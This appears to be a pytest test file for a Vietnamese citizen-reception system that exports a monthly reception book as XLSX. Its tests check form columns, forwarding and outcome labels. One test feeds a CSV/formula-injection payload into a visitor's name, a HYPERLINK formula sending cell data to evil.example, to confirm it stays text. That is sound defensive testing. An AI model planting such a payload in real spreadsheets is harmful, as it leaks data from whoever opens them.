"""The reception book's XLSX (/tiep-nhan/so.xlsx) as the desk downloads it: citizen-typed text never becomes a
formula; columns (10) and (11) are those of Mẫu số 03/TCD (SQLite and PostgreSQL)."""
from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from factories import NOW
from openpyxl import load_workbook
from web.conftest import Browser

from dvflow.models import Case
from dvflow.services import cases
from dvflow.services.cases.intake import IntakeInput, PartyInput, register_case
from dvflow.services.reception import visits

from .helpers import local, make_session, visit

FIRST_ROW = 8  # the heading, the header row and the row of column numbers above the entries


@pytest.fixture
def book(app, org):
    """The XLSX of November 2026 of the department, downloaded by its reception officer: its active sheet."""
    def _book():
        b = Browser(app.test_client())
        b.login("reception")
        resp = b.get(f"/tiep-nhan/so.xlsx?thang=2026-11&don_vi={org['dept'].id}")
        assert resp.status_code == 200
        return load_workbook(BytesIO(resp.data)).active
    return _book


def record(session, workflows, org, rules, rs, **kw):
    return visits.record(session, workflows, rules, org["users"]["reception"], rs.id, visit(**kw), NOW)


def test_a_visitor_typed_formula_stays_text(session, workflows, org, rules, book):
    rs = make_session(session, org["dept"], day=date(2026, 11, 20))
    name, summary = '=HYPERLINK("http://evil.example/"&B9,"Nguyễn Văn A")', "=1+1"
    record(session, workflows, org, rules, rs, citizen_name=name, summary=summary, address="@Phố A",
           prior_resolver="-UBND xã", content_type="petition")
    ws = book()
    assert not [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert ws.cell(row=FIRST_ROW, column=3).value == f"{name}, @Phố A"
    assert ws.cell(row=FIRST_ROW, column=5).value == summary and ws.cell(row=FIRST_ROW, column=8).value == "-UBND xã"


def test_columns_10_and_11_name_the_bodies_and_letters_of_the_form(session, workflows, org, rules, book, app):
    """Mẫu 03/TCD (NĐ 154/2026): (10) the body the citizen was guided to and the guidance letter's number; (11) the
    body that accepts the matter and the forwarding slip's number. A letter the unit accepted itself is ticked in
    (9) and names the unit in (11), never a transfer; a letter forwarded afterwards names the body it went to."""
    rs = make_session(session, org["dept"], day=date(2026, 11, 20))
    record(session, workflows, org, rules, rs, citizen_name="Nguyễn Văn An", outcome="guided",
           guided_to="UBND xã Đông", guidance_number="12/HD", result_note=None)
    own = record(session, workflows, org, rules, rs, citizen_name="Lê Thị Bình", outcome="case_opened",
                 case_kind="complaint_first", result_note=None)
    sent = record(session, workflows, org, rules, rs, citizen_name="Trần Văn Cường", content_type="petition",
                  summary="Kiến nghị về giá điện", outcome="case_opened", case_kind="triage", result_note=None)
    head = org["users"]["head"]
    cases.perform(session, workflows, head, sent.case_id, "classify", {"content_type": "petition", "competent": False},
                  NOW)
    cases.perform(session, workflows, head, sent.case_id, "forward", {
        "to_body": "Công ty Điện lực tỉnh", "forward_number": "5/PC-STNMT", "forwarded_on": "2026-11-25",
        "slip": "Chuyển đơn kiến nghị về giá điện"}, NOW)
    ws = book()
    assert [ws.cell(row=6, column=c).value for c in (2, 9, 10, 11)] == [
        "Ngày tiếp", "Thuộc thẩm quyền", "Hướng dẫn công dân đến cơ quan có thẩm quyền", "Cơ quan, đơn vị thụ lý"]
    code = session.get(Case, own.case_id).tracking_code
    got = [[ws.cell(row=FIRST_ROW + i, column=c).value for c in (9, 10, 11)] for i in range(3)]
    assert got == [[None, "UBND xã Đông, 12/HD", None],
                   ["x", None, f"Sở NN&MT: {code}"],
                   [None, None, "Công ty Điện lực tỉnh, 5/PC-STNMT"]]
    b = Browser(app.test_client())
    b.login("reception")
    page = b.get(f"/tiep-nhan/so?thang=2026-11&don_vi={org['dept'].id}").get_data(as_text=True)
    assert "Ngày tiếp" in page and "UBND xã Đông, 12/HD" in page and "Công ty Điện lực tỉnh, 5/PC-STNMT" in page


def test_walk_in_cases_follow_the_same_columns(session, workflows, org, book):
    """A case registered at the intake form (no visit): accepted by the unit, (9) ticked and (11) the unit; a letter
    forwarded, (11) the body and the slip's number, (9) blank."""
    def walk_in(kind, name, hour):
        data = IntakeInput(kind=kind, unit_id=org["dept"].id, channel="walk_in",
                           received_at=local(date(2026, 11, 20), hour), subject=f"Đơn của {name}",
                           parties=[PartyInput(role="complainant", name=name)])
        return register_case(session, workflows, org["users"]["reception"], data, NOW)

    walk_in("complaint_first", "Nguyễn Văn An", 8)
    letter = walk_in("triage", "Lê Thị Bình", 9)
    head = org["users"]["head"]
    cases.perform(session, workflows, head, letter.id, "classify", {"content_type": "petition", "competent": False},
                  NOW)
    cases.perform(session, workflows, head, letter.id, "forward", {
        "to_body": "Công ty Điện lực tỉnh", "forward_number": "6/PC-STNMT", "forwarded_on": "2026-11-25",
        "slip": "Chuyển đơn kiến nghị"}, NOW)
    ws = book()
    got = [[ws.cell(row=FIRST_ROW + i, column=c).value for c in (9, 10, 11)] for i in range(2)]
    assert got == [["x", None, "Sở NN&MT"], [None, None, "Công ty Điện lực tỉnh, 6/PC-STNMT"]]


def test_column_12_names_the_outcome_as_the_page_does(session, workflows, org, rules, book, app):
    """(12) "Theo dõi kết quả": the outcome's label (the one mapping the page prints too), then the result noted
    and a refusal's ground; in the reader's language."""
    rs = make_session(session, org["dept"], day=date(2026, 11, 20))
    record(session, workflows, org, rules, rs, result_note="Đã giải thích quy định")
    record(session, workflows, org, rules, rs, outcome="guided", guided_to="UBND xã Đông", guidance_number="12/HD",
           result_note=None)
    record(session, workflows, org, rules, rs, outcome="refused", refusal_ground="persistent_resolved",
           result_note=None)
    ground = rules.grounds["persistent_resolved"].label
    ws = book()
    assert [ws.cell(row=FIRST_ROW + i, column=12).value for i in range(3)] == [
        "Trả lời trực tiếp: Đã giải thích quy định", "Hướng dẫn", f"Từ chối tiếp: {ground}"]
    b = Browser(app.test_client())
    b.login("reception")
    b.get("/ngon-ngu/en")
    english = load_workbook(BytesIO(b.get(f"/tiep-nhan/so.xlsx?thang=2026-11&don_vi={org['dept'].id}").data)).active
    assert english.cell(row=FIRST_ROW, column=12).value == "Answered on the spot: Đã giải thích quy định"
